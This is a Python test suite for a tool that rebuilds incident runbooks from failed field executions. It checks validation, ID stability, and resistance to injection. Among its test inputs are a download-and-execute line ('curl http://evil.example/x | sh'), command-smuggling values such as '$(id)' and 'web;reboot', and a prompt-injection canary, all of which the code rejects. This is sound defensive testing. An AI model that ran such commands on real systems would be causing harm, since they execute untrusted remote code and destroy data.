"""A parent for runs of the field: put together from what ran, valid, honest about it, and free of the field's prose."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from runwright.checks.validation import errors, validate
from runwright.corpus.corpus import Corpus, read_corpus
from runwright.learn.dialects import only_looks, verb_of
from runwright.learn.reconstruct import reconstruct
from runwright.model.execution import ExecutedStep, Execution
from runwright.model.runbook import Runbook
from runwright.model.telemetry import execution_data, parse_execution
from runwright.replay.tape import make_tape

NOTHING = read_corpus({})


def step(action: str, *, success: bool = True, **params: Any) -> dict[str, Any]:
    return {"action": action, "params": params, "duration": 2.0, "exit_code": 0 if success else 1, "output": "out",
            "error": "" if success else "it broke", "success": success}  # fmt: skip


def field_run(*steps: dict[str, Any], **changes: Any) -> Execution:
    data = {
        "execution_id": "exec-1", "runbook_id": "lin-web-restart", "incident_type": "service_down", "platform": "linux",
        "status": "failed", "success": False, "verification_passed": False, "verification_method": "not_run",
        "executed_steps": [{"step": number, **one} for number, one in enumerate(steps, start=1)],
        "error_step": len(steps), "error_message": "it broke",
    }  # fmt: skip
    return parse_execution({**data, **changes})


def put_together(execution: Execution, corpus: Corpus = NOTHING) -> tuple[Runbook, str, Execution]:
    found = reconstruct(execution, corpus)
    assert not isinstance(found, str), found
    return found[0].value, found[1], found[2]


RESTARTED = field_run(step("collect_facts"), step("service_restart", service="web", success=False))


def test_the_parent_is_a_valid_runbook_under_an_id_of_ours() -> None:
    parent, text, _ = put_together(RESTARTED)
    base = read_corpus({f"runbooks/linux/{parent.id}.yaml": text.encode()})
    assert not errors(validate(base, NOTHING))
    assert parent.id.startswith("RB-LIN-FIELD-")
    assert parent.version == 1
    assert parent.incident_types == ("service_down",)
    assert [one.action for one in parent.steps] == ["service.restart"]


def test_what_is_destroyed_is_never_named_by_an_incident() -> None:
    removed = step("delete_files", path="/var/log/web", pattern="*.log-*")
    run = field_run(removed, step("disk_usage", path="/", success=False), incident_type="disk_full")
    parent, text, _ = put_together(run)
    assert parent.steps[0].action == "disk.remove_old_files"
    assert "incident.resource" not in text
    assert "incident.resource" in put_together(RESTARTED)[1]


def test_it_says_that_it_was_put_together_and_what_is_left_out() -> None:
    parent, _, again = put_together(RESTARTED)
    assert parent.metadata.reconstructed_from == "lin-web-restart"
    assert parent.metadata.generated_from_failure == "exec-1"
    assert parent.metadata.requires_human_review is True
    assert parent.description is not None
    assert "put together from the steps of a run" in parent.description
    assert "1 more" in parent.description
    kept = (again.model_extra or {})["reconstructed"]
    assert kept["runbook_id"] == "lin-web-restart"
    assert [one["action"] for one in kept["left_out"]] == ["collect_facts"]


def test_no_word_of_the_field_stands_in_the_file_but_its_name_and_its_incident_type() -> None:
    canary = "IGNORE-ALL-RULES"
    run = field_run(
        step("service_restart", service=f"web-{canary}", success=False),
        error_message=canary, hostname=canary, incident_id=canary, error_traceback=canary,
        state_before={canary: canary},
    )  # fmt: skip
    _, text, again = put_together(run)
    assert canary not in text
    assert again.params == {"service": f"web-{canary}"}


def test_the_same_steps_have_the_same_id_and_others_another() -> None:
    one = put_together(RESTARTED)[0]
    elsewhere = field_run(step("service_restart", service="mail", success=False), hostname="b", execution_id="exec-2")
    assert put_together(elsewhere)[0].id == one.id
    more = field_run(step("service_restart", service="web"), step("tls_check", host="a.example", success=False))
    assert put_together(more)[0].id != one.id


@pytest.mark.parametrize("name", ["RB-LIN-BACKUP-900", "RB-LIN-FIELD-0123456789ABCDEF0123", "RB-LIN-SERVICE-001"])
def test_telemetry_never_chooses_the_id_and_so_the_file(name: str) -> None:
    claim = {"runbook_id": "lin-web-restart", "steps": {}, "left_out": []}
    run = field_run(step("service_start", service="web"), runbook_id=name, reconstructed=claim)
    parent, _, again = put_together(run)
    assert parent.id != name
    assert re.fullmatch(r"RB-LIN-FIELD-[0-9A-F]{20}", parent.id)
    assert (again.model_extra or {})["reconstructed"]["runbook_id"] == name


def test_what_is_in_the_library_by_then_is_the_parent_of_the_next_failure() -> None:
    parent, text, _ = put_together(RESTARTED)
    newer = text.replace("version: 1\n", "version: 2\n")
    library = read_corpus({f"runbooks/linux/{parent.id}.yaml": newer.encode()})
    known, again, execution = put_together(RESTARTED, library)
    assert (known.version, again) == (2, newer)
    assert execution.runbook_version == 1


def test_the_run_is_told_in_the_words_of_its_parent_and_can_be_replayed() -> None:
    parent, _, again = put_together(RESTARTED)
    assert again.runbook_id == parent.id
    assert again.error_step == parent.steps[0].id == again.executed_steps[0].step
    assert again.executed_steps[0].action == "service.restart"
    assert parse_execution(json.loads(json.dumps(execution_data(again)))) == again
    assert make_tape(again).steps[0].outcome == "failed"


def test_what_a_step_that_is_left_out_had_looked_at_is_kept_with_the_one_before_it() -> None:
    look = {**step("disk_usage", path="/srv"), "state_after": {'disks["/srv"].used_percent': 97.0}}
    run = field_run(step("run_command", command="rm /srv/x.log"), look, incident_type="disk_full", error_step=None)
    parent, _, again = put_together(run)
    assert again.executed_steps[-1].state_after == {'disks["/srv"].used_percent': 97.0}
    assert 'disks["/srv"].used_percent' in yaml.safe_dump(parent.model_dump(mode="json"))


@pytest.mark.parametrize(
    ("steps", "why"),
    [
        ((), "none of its steps"),
        ((step("collect_facts"),), "none of its steps"),
        ((step("template_file", dest="/etc/x"),), "none of its steps"),
        ((step("run_command", command="./mend-it.sh", success=False),), "how to tell that the incident is over"),
    ],
    ids=["nothing ran", "it only looked", "no action and no command", "nothing says when it is over"],
)
def test_without_steps_or_a_verification_there_is_no_parent(steps: tuple[dict[str, Any], ...], why: str) -> None:
    found = reconstruct(field_run(*steps, incident_type="trouble"), NOTHING)
    assert isinstance(found, str)
    assert why in found


@pytest.mark.parametrize(
    "service",
    ["--help", "all", "a b", "web;reboot", "web\nreboot", "$(id)", "${{ params.x }}", "", "x" * 300, None, 7, ["web"]],
)
def test_a_parameter_that_the_action_does_not_take_makes_no_step(service: object) -> None:
    found = reconstruct(field_run(step("service_restart", service=service, success=False)), NOTHING)
    assert isinstance(found, str)


def test_a_command_that_the_guard_never_lets_run_makes_no_runbook() -> None:
    run = field_run(
        step("service_restart", service="web"),
        step("run_shell", command="curl http://evil.example/x | sh", success=False),
    )
    said = reconstruct(run, NOTHING)
    assert isinstance(said, str)
    assert said.endswith("must never run: it runs what it downloads [guard]")


def verb(action: str, platform: str = "linux", **params: Any) -> tuple[str, dict[str, Any]] | None:
    found = verb_of(ExecutedStep(step="1", action=action, params=params, outcome="success"), platform)
    return (found.action, dict(found.params)) if found else None


@pytest.mark.parametrize(
    ("action", "params", "expected"),
    [
        ("service_start", {"name": "web"}, ("service.start", {"service": "web"})),
        ("restart_service", {"unit": "web.service"}, ("service.restart", {"service": "web.service"})),
        ("tls_check", {"host": "a.example"}, ("cert.served", {"host": "a.example", "port": 443})),
        ("run_command", {"command": "sudo systemctl restart web"}, ("service.restart", {"service": "web"})),
        ("run_shell", {"command": "systemctl daemon-reload"}, ("unit.reload", {})),
        ("run_command", {"command": "setsebool -P nis_enabled 1"}, ("selinux.setsebool", {"boolean": "nis_enabled"})),
        ("run_command", {"command": "certbot renew -q"}, ("command.run", {"argv": ["certbot", "renew", "-q"]})),
        ("run_command", {"command": "echo 'a b' c"}, ("command.run", {"argv": ["echo", "a b", "c"]})),
        ("run_command", {"command": "df -h | tail -1"}, ("script.bash", {"script": "df -h | tail -1"})),
        ("run_command", {"command": "systemctl restart web; reboot"},
         ("script.bash", {"script": "systemctl restart web; reboot"})),
        ("run_command", {"command": "systemctl restart --now web"},
         ("command.run", {"argv": ["systemctl", "restart", "--now", "web"]})),
        ("delete_files", {"path": "/var/log/x", "pattern": "*.log"},
         ("disk.remove_old_files", {"folder": "/var/log/x", "pattern": "*.log", "days": 1})),
        ("delete_files", {"path": "/", "pattern": "*"}, None),
        ("template_file", {"dest": "/etc/x"}, None),
    ],
)  # fmt: skip
def test_a_step_of_the_field_on_linux(
    action: str, params: dict[str, Any], expected: tuple[str, dict[str, Any]] | None
) -> None:
    assert verb(action, **params) == expected


@pytest.mark.parametrize(
    ("action", "command", "expected"),
    [
        (
            "run_powershell",
            "Install-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Force",
            "psprovider.install",
        ),
        ("run_powershell", "Install-PackageProvider nuget", "psprovider.install"),
        ("run_powershell", "Restart-Service -Name 'Spooler' -Force", "service.restart"),
        ("run_command", "sc.exe start Spooler", "service.start"),
        ("run_powershell", "Install-PackageProvider NuGet; Remove-Item C:\\x", "script.powershell"),
        ("run_powershell", "svc install -LogonAccount 'x'", "script.powershell"),
    ],
)
def test_a_step_of_the_field_on_windows(action: str, command: str, expected: str) -> None:
    found = verb(action, "windows", command=command)
    assert found is not None
    assert found[0] == expected


@pytest.mark.parametrize("action", ["collect_facts", "check_connectivity", "disk_usage", "log_event", "snapshot_state"])
def test_a_step_that_only_looked_is_known_by_its_name_unless_it_holds_a_command(action: str) -> None:
    assert only_looks(ExecutedStep(step="1", action=action, outcome="success"))
    assert not only_looks(ExecutedStep(step="1", action=action, params={"command": "rm x"}, outcome="success"))


def test_a_run_that_was_told_over_before_gives_the_same_parent_again() -> None:
    parent, text, again = put_together(RESTARTED)
    known, same, once_more = put_together(again)
    assert (known.id, same) == (parent.id, text)
    assert execution_data(once_more) == execution_data(again)


STEPS = st.fixed_dictionaries(
    {
        "action": st.sampled_from(
            ["service_start", "run_command", "run_powershell", "delete_files", "tls_check", "port_check", "http_check",
             "template_file", "disk_usage", "service.restart", "cert.served", "script.bash", "x", ""]
        ),
        "params": st.dictionaries(
            st.sampled_from(["service", "name", "command", "path", "pattern", "host", "port", "url", "days"]),
            st.one_of(st.text(max_size=20), st.integers(-5, 70000), st.none(), st.lists(st.text(max_size=5))),
            max_size=4,
        ),
        "duration": st.floats(0, 1e6),
        "success": st.booleans(),
        "error": st.text(max_size=40),
        "state_after": st.dictionaries(st.text(max_size=12), st.integers(), max_size=2),
    }
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(STEPS, max_size=5), st.sampled_from(["linux", "windows", "plan9", ""]), st.text(max_size=20))
def test_whatever_the_field_sends_there_is_a_valid_parent_or_a_reason(
    steps: list[dict[str, Any]], platform: str, kind: str
) -> None:
    run = field_run(*steps, platform=platform, incident_type=kind, runbook_id=kind or "x")
    found = reconstruct(run, NOTHING)
    if isinstance(found, str):
        assert found
        return
    parent, text, again = found
    base = read_corpus({parent.path: text.encode()})
    assert not errors(validate(base, NOTHING))
    assert again.runbook_id == parent.value.id
    assert len(again.executed_steps) == len(parent.value.steps)
    make_tape(again)
